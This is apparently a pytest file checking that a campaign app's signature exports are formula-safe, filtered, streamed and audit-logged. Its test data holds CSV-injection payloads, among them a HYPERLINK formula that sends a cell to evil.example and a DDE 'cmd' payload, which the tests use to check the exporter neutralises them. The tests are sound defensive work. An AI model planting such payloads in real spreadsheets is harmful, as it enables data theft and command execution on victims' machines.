"""Exports: what organisers download is right, safe to open in a spreadsheet, streamed, and logged."""

from __future__ import annotations

import csv
import io
import json
import os
import time
from datetime import timedelta

import pytest
from sqlalchemy import select
from typer.testing import CliRunner

from app import cli, exports
from app.db import utcnow
from app.models import AuditLog, Signature
from tests.seed import add_signatures, bearer, bulk_confirmed, organiser, signature_values
from tests.support import make_settings, settings_env

HOSTILE_NAMES = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
    "+1",
    "-2",
    "@SUM(A1:A9)",
    "\tTab-led",
    "\rCR-led",
    "\uff1dFULLWIDTH()",
    "Жанар Әлиева",  # ordinary Kazakh name: must come back as is, in UTF-8
]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def seed_hostile(svc) -> list[int]:
    now = utcnow()
    rows = [
        signature_values(svc.keyring, name=name, email=f"h{i}@example.org", city="=cmd|' /C calc'!A0",
                         message="-1+1\nsecond line", created_at=now - timedelta(minutes=i))
        for i, name in enumerate(HOSTILE_NAMES)
    ]
    rows.append(signature_values(svc.keyring, name="Pending Person", email="pending@example.org", status="pending",
                                 created_at=now))
    with svc.db.write.begin() as s:
        return add_signatures(s, rows, opt_ins={0: ["akorda", "-evil"]})


def read_csv(text: str) -> list[dict[str, str]]:
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


def every_cell_is_inert(values) -> None:
    for value in values:
        if isinstance(value, str):
            assert not value.startswith(FORMULA_START), repr(value)


def test_signatures_csv_is_complete_and_formula_safe(client, svc):
    token = organiser(svc)
    ids = seed_hostile(svc)
    answer = client.get("/api/v1/campaigns/mamay/signatures?format=csv", headers=bearer(token))
    assert answer.status_code == 200
    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    assert answer.headers["content-disposition"].startswith('attachment; filename="mamay-signatures-confirmed-')
    rows = read_csv(answer.text)
    assert list(rows[0]) == list(exports.SIGNATURE_COLUMNS)
    assert len(rows) == len(HOSTILE_NAMES)  # confirmed only by default
    for row in rows:
        every_cell_is_inert(row.values())
    by_id = {int(r["id"]): r for r in rows}
    for signature_id, name in zip(ids, HOSTILE_NAMES, strict=False):
        row = by_id[signature_id]
        assert row["name"] == (name if name == "Жанар Әлиева" else "'" + name)
        assert row["city"] == "'=cmd|' /C calc'!A0"
        assert row["message"] == "'-1+1\nsecond line"
        assert row["status"] == "confirmed" and row["country"] == "DE" and row["language"] == "en"
        assert row["email"].endswith("@example.org") and row["created_at"] and row["confirmed_at"]
    assert by_id[ids[0]]["opt_in_targets"] == "'-evil;akorda"


def test_signatures_json_is_complete_and_formula_safe(client, svc):
    token = organiser(svc)
    ids = seed_hostile(svc)
    answer = client.get("/api/v1/campaigns/mamay/signatures?format=json&status=all", headers=bearer(token))
    assert answer.status_code == 200 and answer.headers["content-type"] == "application/json"
    records = answer.json()
    assert len(records) == len(HOSTILE_NAMES) + 1
    assert set(records[0]) == set(exports.SIGNATURE_COLUMNS)
    for record in records:
        every_cell_is_inert(record.values())
        every_cell_is_inert(record["opt_in_targets"])
    first = next(r for r in records if r["id"] == ids[0])
    assert first["name"] == "'" + HOSTILE_NAMES[0]
    assert first["opt_in_targets"] == ["'-evil", "akorda"]
    assert next(r for r in records if r["status"] == "pending")["confirmed_at"] is None
    assert "Жанар Әлиева" in answer.content.decode("utf-8")


def test_status_and_since_filter_and_erased_rows_never_leave(client, svc):
    token = organiser(svc)
    now = utcnow()
    rows = [
        signature_values(svc.keyring, name="Old", email="old@example.org", created_at=now - timedelta(days=10)),
        signature_values(svc.keyring, name="New", email="new@example.org", created_at=now),
        signature_values(svc.keyring, name="Wait", email="wait@example.org", status="pending", created_at=now),
        signature_values(svc.keyring, name="Gone", email="gone@example.org", created_at=now),
    ]
    with svc.db.write.begin() as s:
        ids = add_signatures(s, rows)
        gone = s.get(Signature, ids[3])
        gone.erased_at, gone.name_enc, gone.email_enc, gone.email_key = now, None, None, None

    def names(query: str) -> list[str]:
        answer = client.get(f"/api/v1/campaigns/mamay/signatures?format=json&{query}", headers=bearer(token))
        assert answer.status_code == 200, answer.text
        return sorted(r["name"] for r in answer.json())

    assert names("status=confirmed") == ["New", "Old"]
    assert names("status=pending") == ["Wait"]
    assert names("status=all") == ["New", "Old", "Wait"]
    assert names(f"status=all&since={(now - timedelta(days=1)).date().isoformat()}") == ["New", "Wait"]
    bad = client.get("/api/v1/campaigns/mamay/signatures?format=xml", headers=bearer(token))
    assert bad.status_code == 422
    assert client.get("/api/v1/campaigns/nope/signatures", headers=bearer(token)).status_code == 404


def test_counts_by_country_and_day_in_csv_and_json(client, svc):
    token = organiser(svc)
    now = utcnow()
    rows = [signature_values(svc.keyring, name=f"C{i}", email=f"c{i}@example.org", country=c,
                             created_at=now - timedelta(days=d))
            for i, (c, d) in enumerate([("KZ", 0), ("KZ", 1), ("DE", 1)])]
    with svc.db.write.begin() as s:
        add_signatures(s, rows)
    by_country = client.get("/api/v1/campaigns/mamay/counts?by=country&format=csv&lang=ru", headers=bearer(token))
    assert read_csv(by_country.text) == [
        {"country": "KZ", "country_name": "Казахстан", "confirmed": "2"},
        {"country": "DE", "country_name": "Германия", "confirmed": "1"},
    ]
    by_day = client.get("/api/v1/campaigns/mamay/counts?by=day&format=json", headers=bearer(token)).json()
    assert by_day == [
        {"day": (now - timedelta(days=1)).date().isoformat(), "confirmed": 2},
        {"day": now.date().isoformat(), "confirmed": 1},
    ]


def test_every_export_is_logged_with_who_what_and_rows(client, svc):
    token = organiser(svc, "aliya")
    seed_hostile(svc)
    client.get("/api/v1/campaigns/mamay/signatures?format=csv&status=all&since=2026-01-01", headers=bearer(token))
    client.get("/api/v1/campaigns/mamay/counts?by=country&format=json", headers=bearer(token))
    with svc.db.read() as s:
        log = [(e.organiser, e.campaign, e.what, e.rows) for e in s.scalars(select(AuditLog).order_by(AuditLog.id))]
    assert log == [
        ("aliya", "mamay", "signatures all csv since 2026-01-01", len(HOSTILE_NAMES) + 1),
        ("aliya", "mamay", "counts by country json", 1),
    ]


def test_an_interrupted_export_is_still_logged(svc):
    seed_hostile(svc)
    stream = exports.signatures(svc.db, svc.keyring, exports.SignatureQuery("mamay"), organiser="x", fmt="csv")
    with svc.db.read() as s:
        assert s.scalar(select(AuditLog.rows)) is None  # logged before the first row leaves
    next(stream)
    stream.close()  # the client went away
    with svc.db.read() as s:
        entry = s.scalar(select(AuditLog))
    assert entry.what.endswith("(interrupted)") and entry.rows is not None


def test_ten_thousand_rows_stream_in_batches(client, svc):
    token = organiser(svc)
    with svc.db.write.begin() as s:
        bulk_confirmed(s, svc.keyring, 10_000, now=utcnow())
    # The generator yields batch by batch: the first chunk is ready long before the last row is read.
    chunks = exports.signatures(svc.db, svc.keyring, exports.SignatureQuery("mamay"), organiser="t", fmt="csv")
    first = next(chunks)
    assert first.count("\r\n") == exports.BATCH + 1  # the header and one batch
    assert sum(1 for _ in chunks) >= 10_000 // exports.BATCH - 1

    started = time.perf_counter()
    answer = client.get("/api/v1/campaigns/mamay/signatures?format=csv", headers=bearer(token))
    elapsed = time.perf_counter() - started
    assert answer.status_code == 200
    assert "content-length" not in answer.headers  # a streamed body, not one built in memory
    rows = read_csv(answer.text)
    assert len(rows) == 10_000 and rows[-1]["name"] == "Signer 9999"
    assert len({r["id"] for r in rows}) == 10_000
    assert elapsed < 30
    with svc.db.read() as s:
        assert s.scalars(select(AuditLog.rows).order_by(AuditLog.id)).all()[-1] == 10_000


def test_cli_export_writes_an_owner_only_file_and_logs_it(settings, svc, tmp_path):
    seed_hostile(svc)
    runner = CliRunner()
    out = tmp_path / "export.csv"
    result = runner.invoke(cli.app, ["export", "mamay", "--format", "csv", "-o", str(out), "--status", "all"],
                           env=settings_env(settings))
    assert result.exit_code == 0, result.output
    assert os.stat(out).st_mode & 0o777 == 0o600
    rows = read_csv(out.read_text(encoding="utf-8"))
    assert len(rows) == len(HOSTILE_NAMES) + 1
    for row in rows:
        every_cell_is_inert(row.values())

    counts = runner.invoke(cli.app, ["export", "mamay", "--counts", "country", "--format", "json"],
                           env=settings_env(settings))
    assert counts.exit_code == 0, counts.output
    assert json.loads(counts.stdout) == [{"country": "DE", "country_name": "Germany",
                                          "confirmed": len(HOSTILE_NAMES)}]
    with svc.db.read() as s:
        log = s.scalars(select(AuditLog).order_by(AuditLog.id)).all()
    assert [e.what for e in log] == ["signatures all csv", "counts by country json"]
    assert all(e.organiser.startswith("cli:") for e in log)

    bad = runner.invoke(cli.app, ["export", "mamay", "--since", "yesterday"], env=settings_env(settings))
    assert bad.exit_code == 2


@pytest.mark.postgres
def test_exports_on_postgresql(tmp_path, pg_url):
    from app.db import Database
    from app.state import Services

    settings = make_settings(tmp_path, pg_url)
    db = Database(pg_url)
    try:
        svc = Services.build(settings, db=db)
        ids = seed_hostile(svc)
        text = "".join(exports.signatures(db, svc.keyring, exports.SignatureQuery("mamay", status="all"),
                                          organiser="pg", fmt="csv"))
        rows = read_csv(text)
        assert [int(r["id"]) for r in rows] == sorted(ids)
        for row in rows:
            every_cell_is_inert(row.values())
    finally:
        db.dispose()
